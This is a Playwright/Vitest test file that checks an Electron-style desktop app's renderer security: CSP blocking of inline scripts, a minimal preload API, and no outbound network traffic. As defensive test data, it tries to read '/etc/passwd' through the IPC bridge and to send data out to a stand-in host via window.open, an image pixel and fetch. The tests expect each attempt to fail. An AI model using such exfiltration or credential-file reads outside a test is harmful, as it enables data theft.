import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, openApp, tempDataDir } from './harness';

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

describe('renderer security in Chromium', () => {
  it('blocks an inline script with the CSP', async () => {
    const app = await openApp(browser, tempDataDir());
    await app.page.getByRole('heading', { name: 'Assessments' }).waitFor();
    const outcome = await app.page.evaluate(async () => {
      const violated = new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), {
          once: true,
        }),
      );
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = true';
      document.body.appendChild(s);
      const directive = await Promise.race([
        violated,
        new Promise<string>((r) => setTimeout(() => r('none'), 2000)),
      ]);
      return { directive, pwned: (window as unknown as { __pwned?: boolean }).__pwned === true };
    });
    expect(outcome.pwned).toBe(false);
    expect(outcome.directive).toMatch(/^script-src/);
    await app.close();
  });

  it('exposes only window.api.invoke: no ipcRenderer, no require, no process', async () => {
    const app = await openApp(browser, tempDataDir());
    const surface = await app.page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const api = w.api as {
        invoke: (c: string, i: unknown) => Promise<{ ok: boolean; error?: { code: string } }>;
      };
      const unknown = await api.invoke('fs.readFile', { path: '/etc/passwd' });
      return {
        keys: Object.keys(api),
        require: typeof w.require,
        process: typeof w.process,
        ipcRenderer: typeof w.ipcRenderer,
        electron: typeof w.electron,
        unknown,
      };
    });
    expect(surface).toEqual({
      keys: ['invoke'],
      require: 'undefined',
      process: 'undefined',
      ipcRenderer: 'undefined',
      electron: 'undefined',
      unknown: { ok: false, error: expect.objectContaining({ code: 'invalid-input' }) },
    });
    await app.close();
  });

  it('sends nothing outside the app during a walk through every screen, and window.open gets nowhere', async () => {
    const dir = tempDataDir();
    const app = await openApp(browser, dir);
    const a = app.services.assessments.create({ title: 'Walk', site: 'Everywhere' });
    await app.page.reload();
    await app.page.getByRole('button', { name: 'Walk' }).click();
    const sections = await app.page.locator('nav.sidebar .nav-item').allTextContents();
    expect(sections.length).toBeGreaterThan(1);
    for (const label of sections) {
      await app.page.locator('nav.sidebar .nav-item', { hasText: label }).click();
      await app.page.waitForLoadState('networkidle');
    }
    // The walk itself asked for nothing outside the app.
    expect(app.foreignRequests).toEqual([]);

    // Hostile code in the page: the CSP refuses the image and the fetch; the popup's navigation is
    // refused by the harness as Electron's window-open handler refuses it.
    const violations = await app.page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
      window.open('https://example.com/exfiltrate?d=1');
      const img = new Image();
      img.src = 'https://example.com/pixel.gif';
      document.body.appendChild(img);
      await fetch('https://example.com/beacon').catch(() => undefined);
      await new Promise((r) => setTimeout(r, 300));
      return seen;
    });
    expect(violations).toEqual(expect.arrayContaining(['img-src', 'connect-src']));
    expect(app.foreignRequests.every((u) => u.startsWith('https://example.com/'))).toBe(true);
    expect(app.foreignRequests).not.toContain('https://example.com/beacon');
    expect(a.id).toBeTruthy();
    await app.close();
  });
});
